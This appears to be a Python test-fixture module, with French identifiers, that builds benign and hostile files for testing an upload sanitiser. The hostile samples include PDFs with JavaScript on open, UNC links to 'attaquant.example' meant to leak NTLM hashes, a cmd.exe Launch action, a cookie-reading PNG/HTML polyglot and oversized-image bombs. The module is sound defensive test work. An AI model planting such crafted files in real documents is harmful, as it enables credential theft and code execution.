"""Small real files of each format, built in memory, and the hostile ones of the corpus."""

import io
import re
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def image(format_pillow: str, taille=(40, 30), mode="RGB", **options) -> bytes:
    sortie = io.BytesIO()
    Image.new(mode, taille, "red" if mode != "1" else 1).save(sortie, format_pillow, **options)
    return sortie.getvalue()


def png() -> bytes:
    return image("PNG")


def jpeg() -> bytes:
    return image("JPEG")


def tiff() -> bytes:
    return image("TIFF")


def bmp() -> bytes:
    return image("BMP")


def pdf(*, rembourrage: int = 0) -> bytes:
    """A one-page PDF; its page content is `rembourrage` bytes of comment lines."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    if rembourrage:
        contenu = StreamObject()
        ligne = b"%" + b"x" * 1022 + b"\n"
        donnees = ligne * (rembourrage // len(ligne))
        donnees += b"%" * (rembourrage - len(donnees))
        contenu.set_data(donnees)
        page[NameObject("/Contents")] = writer._add_object(contenu)
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def pdf_a_taille(taille: int) -> bytes:
    """A valid PDF of exactly `taille` bytes."""
    rembourrage = taille - len(pdf(rembourrage=1))
    for _essai in range(3):
        contenu = pdf(rembourrage=rembourrage)
        if len(contenu) == taille:
            return contenu
        rembourrage += taille - len(contenu)
    raise AssertionError(len(contenu))


def pdf_javascript() -> bytes:
    """A PDF that runs JavaScript when opened (/OpenAction → /S /JavaScript)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def pdf_javascript_compresse() -> bytes:
    """The same active content hidden in a compressed object stream, with a #xx-escaped name
    nowhere in clear: only the object-level check can see it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def polyglotte_png_html() -> bytes:
    return png() + b"<html><body><script>alert(document.cookie)</script></body></html>"


def png_geant(largeur=20000, hauteur=20000) -> bytes:
    """A tiny real PNG whose header declares `largeur` × `hauteur` pixels (CRC recomputed)."""
    contenu = bytearray(png())
    ihdr = bytearray(contenu[16:29])
    ihdr[0:8] = struct.pack(">II", largeur, hauteur)
    contenu[16:29] = ihdr
    contenu[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + bytes(ihdr)) & 0xFFFFFFFF)
    return bytes(contenu)


def executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program"


# --- Damaged but readable PDFs (scanners, phones) -------------------------------------------


def pdf_xref_decale(decalage: int = 1000, contenu: bytes | None = None) -> bytes:
    """A PDF (`contenu`, by default a plain one) whose cross-reference offsets all point to the
    wrong place (poppler and PDFium rebuild the table and open it)."""
    contenu = contenu or pdf(rembourrage=3000)
    debut = contenu.rindex(b"\nxref\n")
    table = re.sub(
        rb"(\d{10}) 00000 n",
        lambda m: b"%010d 00000 n" % (int(m.group(1)) + decalage),
        contenu[debut:],
    )
    return contenu[:debut] + table


def pdf_xref_illisible() -> bytes:
    """A PDF whose cross-reference table announces more entries than it has, and whose end
    carries scanner padding after %%EOF."""
    contenu = pdf(rembourrage=3000)
    contenu = re.sub(rb"\nxref\n0 \d+\n", b"\nxref\n0 9\n", contenu)
    return contenu + b"\x00" * 4096


def pdf_sans_fin() -> bytes:
    """A PDF cut just before its %%EOF marker (a phone that stopped writing)."""
    contenu = pdf(rembourrage=3000)
    return contenu[: contenu.rindex(b"%%EOF")]


# --- PDFs whose clicks or opening leave the document ----------------------------------------


def _action(type_action: str, **entrees) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(f"/{type_action}")})
    for cle, valeur in entrees.items():
        action[NameObject(f"/{cle}")] = valeur
    return action


ACTIONS = {
    # A full-page link to a UNC path: Windows sends the agent's NTLM hash to that server.
    "GoToR": lambda: _action(
        "GoToR", F=TextStringObject(r"\\attaquant.example\partage\x.pdf"), D=NumberObject(0)
    ),
    "GoToE": lambda: _action("GoToE", F=TextStringObject(r"\\attaquant.example\e.pdf")),
    "URI": lambda: _action("URI", URI=TextStringObject("https://attaquant.example/")),
    "SubmitForm": lambda: _action("SubmitForm", F=TextStringObject("https://attaquant.example/")),
    "ImportData": lambda: _action("ImportData", F=TextStringObject(r"\\attaquant.example\d.fdf")),
    "ResetForm": lambda: _action("ResetForm"),
    "Launch": lambda: _action("Launch", F=TextStringObject("cmd.exe")),
    "JavaScript": lambda: _action("JavaScript", JS=TextStringObject("app.alert(1)")),
}


def pdf_action(type_action: str, *, ou: str = "lien") -> bytes:
    """A one-page PDF carrying an action of `type_action` in a full-page link annotation
    (`lien`), the document's /OpenAction (`ouverture`) or /AA (`aa_document`), the page's /AA
    (`aa`, on open), a square annotation's /AA (`aa_annotation`), an outline item (`signet`) or
    the /Next of an internal /OpenAction (`suite`)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    action = ACTIONS[type_action]()
    if ou == "lien":
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 200, 200)]),
                NameObject("/Border"): ArrayObject([NumberObject(0)] * 3),
                NameObject("/A"): writer._add_object(action),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif ou == "ouverture":
        writer._root_object[NameObject("/OpenAction")] = action
    elif ou == "aa":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    elif ou == "aa_document":
        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): action})
    elif ou == "aa_annotation":
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Square"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
                NameObject("/AA"): DictionaryObject({NameObject("/E"): action}),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif ou == "suite":
        # An internal jump whose /Next chain leaves: the whole chain goes.
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
                NameObject("/Next"): ArrayObject([writer._add_object(action)]),
            }
        )
    elif ou == "signet":
        signet = writer.add_outline_item(title="Sommaire", page_number=0)
        signet.get_object()[NameObject("/A")] = action
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def pdf_releve_avec_lien() -> bytes:
    """A bank statement as banks write them: text, a web link in the footer (/URI) and a link
    to the page itself (GoTo, kept)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=300)
    police = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): police})}
    )
    contenu = StreamObject()
    contenu.set_data(
        b"BT /F1 12 Tf 20 250 Td (Releve de compte - Banque Exemple) Tj ET\n"
        b"BT /F1 8 Tf 20 20 Td (Aide : www.banque.example/aide) Tj ET\n"
    )
    page[NameObject("/Contents")] = writer._add_object(contenu)

    def lien(rect, action):
        return writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([NumberObject(n) for n in rect]),
                    NameObject("/A"): action,
                }
            )
        )

    interne = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
        }
    )
    externe = _action("URI", URI=TextStringObject("https://www.banque.example/aide"))
    page[NameObject("/Annots")] = ArrayObject(
        [lien((20, 245, 280, 265), interne), lien((20, 15, 200, 30), externe)]
    )
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def pdf_lien_lourd(taille: int = 9_500_000) -> bytes:
    """A PDF of about `taille` bytes (one big content stream) with a full-page web link: the
    most a rewrite has to copy."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(rembourrage=taille)))
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [
            writer._add_object(
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/Link"),
                        NameObject("/Rect"): ArrayObject(
                            [NumberObject(n) for n in (0, 0, 200, 200)]
                        ),
                        NameObject("/A"): ACTIONS["URI"](),
                    }
                )
            )
        ]
    )
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def pdf_lien_interne() -> bytes:
    """A PDF that opens on its first page (/OpenAction GoTo), as word processors write."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
        }
    )
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


# --- Files that cost more to check than their size suggests ---------------------------------


def pdf_objets(nombre: int = 180_000) -> bytes:
    """A valid one-page PDF padded with `nombre` small objects (about 50 bytes each, with
    their cross-reference entry)."""
    morceaux = [b"%PDF-1.7\n"]
    positions = []
    position = len(morceaux[0])

    def ajouter(corps: bytes):
        nonlocal position
        positions.append(position)
        morceaux.append(b"%d 0 obj\n%s\nendobj\n" % (len(positions), corps))
        position += len(morceaux[-1])

    ajouter(b"<< /Type /Catalog /Pages 2 0 R >>")
    ajouter(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    ajouter(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    for numero in range(nombre):
        ajouter(b"<</N %d>>" % numero)
    debut_xref = position
    morceaux.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(positions) + 1))
    morceaux += [b"%010d 00000 n \n" % position for position in positions]
    morceaux.append(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(positions) + 1, debut_xref)
    )
    return b"".join(morceaux)


def png_reel(largeur: int, hauteur: int) -> bytes:
    """A real, well-formed black RGB PNG, compressed row by row (tiny for its pixel count)."""

    def bloc(type_bloc: bytes, donnees: bytes) -> bytes:
        crc = zlib.crc32(type_bloc + donnees) & 0xFFFFFFFF
        return struct.pack(">I", len(donnees)) + type_bloc + donnees + struct.pack(">I", crc)

    compresseur = zlib.compressobj(9)
    ligne = b"\x00" * (1 + 3 * largeur)
    donnees = b"".join(compresseur.compress(ligne) for _ in range(hauteur))
    donnees += compresseur.flush()
    entete = struct.pack(">IIBBBBB", largeur, hauteur, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", entete) + bloc(b"IDAT", donnees) + bloc(b"IEND", b"")
    )


def jpeg_geant(largeur: int = 12000, hauteur: int = 12000) -> bytes:
    """A small real JPEG whose frame header (SOF0) declares `largeur` × `hauteur` pixels: a
    decoder allocates the whole frame before finding the data short."""
    contenu = bytearray(image("JPEG", taille=(64, 64), quality=50))
    sof = contenu.index(b"\xff\xc0")
    contenu[sof + 5 : sof + 9] = struct.pack(">HH", hauteur, largeur)
    return bytes(contenu)
